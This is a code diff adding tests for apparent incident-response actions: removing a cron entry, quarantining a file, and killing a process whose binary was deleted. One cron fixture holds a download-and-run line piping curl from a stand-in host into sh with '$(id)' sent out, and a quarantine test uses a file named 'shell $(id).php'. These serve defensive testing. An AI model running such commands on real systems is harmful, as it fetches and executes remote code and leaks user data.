@@ -1,6 +1,6 @@
 /** Actions on accounts, keys, processes and files, with users and files of the test alone. */
 import { spawn } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -55,6 +55,25 @@ describe('revoke-ssh-key', () => {
   });
 });
 
+describe('remove-cron-entry', () => {
+  const entry = '* * * * * curl -s http://x.example/$(id)|sh # [a-z]*';
+  it.each([
+    ['in the middle', `# m h\n5 4 * * * backup\n${entry}\n@daily tidy\n`],
+    ['first and last', `${entry}\n5 4 * * * backup ${entry}\n${entry}\n`],
+  ])('takes out an entry that is %s, and puts it back', async (_what, text) => {
+    const file = join(folder, 'crontab');
+    writeFileSync(file, text, { mode: 0o600 });
+    call(['setfacl', '-m', 'u:nobody:r', file]);
+    call(['touch', '-d', '2026-01-02 03:04:05.678', file]);
+    const others = text.split('\n').filter((line) => line !== entry);
+    keepsContract(
+      await trialOf('remove-cron-entry', { file, entry }, call),
+      () => fileState(file),
+      () => expect(call(['cat', file]).stdout.split('\n')).toEqual(others),
+    );
+  });
+});
+
 describe('quarantine-file', () => {
   it('moves a file away, closed, and brings it back as it was', async () => {
     const file = join(folder, 'shell $(id).php');
@@ -96,6 +115,26 @@ describe('freeze-process', () => {
     } finally {
       child.kill('SIGKILL');
     }
+  });
+});
+
+describe('stop-process', () => {
+  it('kills a process whose program was copied, deleted or not', async () => {
+    const program = join(folder, 'nap');
+    call(['cp', call(['which', 'sleep']).stdout.trim(), program]);
+    const bytes = readFileSync(program, 'latin1');
+    const child = spawn(program, ['60']);
+    const ended = new Promise((resolve) => child.once('exit', (_code, signal) => resolve(signal)));
+    rmSync(program);
+    const inBytes = (argv: readonly string[]) => call(argv, { encoding: 'latin1', maxBuffer: 1e8 });
+    const trial = await trialOf('stop-process', { pid: String(child.pid) }, inBytes);
+    const collected = trial.collect();
+    expect(collected.map(({ status }) => status)).toEqual([0, 0, 0, 0, 0]);
+    expect(collected[0]?.stdout === bytes).toBe(true);
+    expect([trial.check(), trial.verify()]).toEqual(['holds', 'fails']);
+    trial.run();
+    expect(await ended).toBe('SIGKILL');
+    expect([trial.verify(), trial.check()]).toEqual(['holds', 'fails']);
   });
 });
 
